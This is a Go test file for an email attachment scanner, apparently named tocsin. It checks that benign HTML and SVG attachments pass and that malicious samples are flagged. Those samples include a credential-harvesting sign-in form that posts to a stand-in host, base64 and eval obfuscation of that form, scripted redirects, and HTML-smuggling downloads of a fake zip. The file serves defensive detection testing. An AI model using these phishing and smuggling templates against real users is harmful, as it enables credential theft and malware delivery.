package detect_test

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"tocsin/internal/detect"
	"tocsin/internal/scan/scantest"
)

const askPage = `<html><head><title>Sign in</title></head><body><h2>Sign in to read the document</h2><form action="https://collect.test/p" method="post"><input type="email" name="u"><input type="password" name="p"></form></body></html>`

func coded(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// badPages are attached pages that ask, hide, build or lead on.
func badPages() map[string]string {
	archive := "PK\x03\x04" + strings.Repeat("not really an archive ", 10)
	half := len(coded(askPage)) / 2
	return map[string]string{
		"form.html":       askPage,
		"atob.html":       "<script>document.write(atob('" + coded(askPage) + "'))</script>",
		"named.htm":       "<script>const d='" + coded(askPage) + "';document.body.innerHTML=atob(d)</script>",
		"percent.html":    "<script>document.write(decodeURIComponent('" + url.PathEscape(askPage) + "'))</script>",
		"pieces.html":     "<script>var p=['" + coded(askPage)[:half] + "','" + coded(askPage)[half:] + "'];document.write(atob(p.join('')))</script>",
		"twice.html":      "<script>eval(atob('" + coded("document.write(atob('"+coded(askPage)+"'))") + "'))</script>",
		"frame.html":      `<iframe srcdoc="` + strings.ReplaceAll(askPage, `"`, "&quot;") + `"></iframe>`,
		"refresh.html":    `<meta http-equiv=refresh content="1;URL=https://collect.test/x">`,
		"away.html":       `<p>One moment</p><script>setTimeout(function(){window.location.href="https://collect.test/x"},10)</script>`,
		"away.shtml":      `<body onload="top.location='https://collect.test/'+'x'">`,
		"reader.html":     `<script>var m='maren.okafor@northwindharbour.example';window.location.replace('https://collect.test/#'+m)</script>`,
		"blob.html":       "<script>var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([atob('" + coded(archive) + "')]));a.download='x.zip';a.click()</script>",
		"data.html":       `<a id=a href="data:application/zip;base64,` + coded(archive) + `" download="x.zip">Open</a>`,
		"ms.html":         "<script>var z='" + coded(archive) + "';navigator.msSaveOrOpenBlob(new Blob([atob(z)]),'x.zip')</script>",
		"numbers.html":    "<script>var z=[" + numbers(archive) + "];navigator.msSaveBlob(new Blob([new Uint8Array(z)]),'x.zip')</script>",
		"script.svg":      `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location.href=atob("` + coded("https://collect.test/x?long=1") + `")]]></script></svg>`,
		"load.svg":        `<svg xmlns="http://www.w3.org/2000/svg" onload="eval(atob('` + coded("window.location='https://collect.test/x'") + `'))"/>`,
		"page.svg":        `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100%" height="100%"><div xmlns="http://www.w3.org/1999/xhtml">` + askPage + `</div></foreignObject></svg>`,
		"frame.svg":       `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://collect.test/x"/></foreignObject></svg>`,
		"href-script.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script xlink:href="https://collect.test/s.js"/><script>location.assign("https://collect.test/x")</script></svg>`,
	}
}

func numbers(s string) string {
	out := make([]string, len(s))
	for i := range len(s) {
		out[i] = fmt.Sprint(s[i])
	}
	return strings.Join(out, ",")
}

// goodPages are pages and drawings that people send each other.
func goodPages() map[string]string {
	return map[string]string{
		"report.html":   "<html><body><h1>Coverage</h1><table><tr><td>a.go</td><td>91%</td></tr></table></body></html>",
		"menu.html":     "<html><body><script>function open1(id){document.getElementById(id).style.display='block'}</script><a href=\"#\" onclick=\"open1('a')\">More</a></body></html>",
		"chart.html":    `<script src="https://cdn.jsdelivr.net/npm/chart.js"></script><canvas id=c></canvas><script>new Chart(c,{type:'bar',data:{labels:['a'],datasets:[{data:[1]}]}})</script>`,
		"news.htm":      `<p>Offers</p><a href="https://shop.test/o">See</a><script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}</script>`,
		"ticket.html":   `<h1>Boarding pass</h1><p>Seat 12A</p><button onclick="window.print()">Print</button>`,
		"search.html":   `<form action="https://www.shop.test/search"><input type=search name=q></form><p>Saved page</p>`,
		"survey.html":   `<form action="https://forms.letters.test/s" method=post><input name=comment></form>`,
		"export.html":   `<button onclick="save()">CSV</button><script>function save(){var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([rows.join('\n')],{type:'text/csv'}));a.download='t.csv';a.click()}</script>`,
		"logo.svg":      `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h10v10z"/></svg>`,
		"flame.svg":     `<svg xmlns="http://www.w3.org/2000/svg" onload="init(evt)"><script>function init(e){details=document.getElementById("d").firstChild}</script><rect onmouseover="s('x')"/></svg>`,
		"map.svg":       `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://plans.test/floor"><text>Floor</text></a></svg>`,
		"diagram.svg":   `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="90" height="20"><div xmlns="http://www.w3.org/1999/xhtml">Load balancer</div></foreignObject></svg>`,
		"invoices.html": "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body><p>Invoice 118, EUR 20</p><img src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\"></body></html>",
	}
}

// TestPagesAreJudged holds that attached pages that attack are caught, and ordinary ones are not.
func TestPagesAreJudged(t *testing.T) {
	judge := detect.NewJudge(detect.Options{Rules: shippedRules(t)})
	send := func(name, page string) []byte {
		l := letter{"Files <files@letters.test>", "The file", "", ""}
		return compose(l, "text/plain", "Please see the file that was asked for on Monday by your office, thank you very much.", scantest.File{Name: name, Content: []byte(page)})
	}
	for name, page := range badPages() {
		if v := judgeRaw(judge, send(name, page), false); len(v.Threats) == 0 {
			t.Errorf("%s missed: %s", name, ids(v))
		}
	}
	for name, page := range goodPages() {
		if v := judgeRaw(judge, send(name, page), false); len(v.Threats) > 0 {
			t.Errorf("%s flagged: %s", name, ids(v))
		}
	}
}
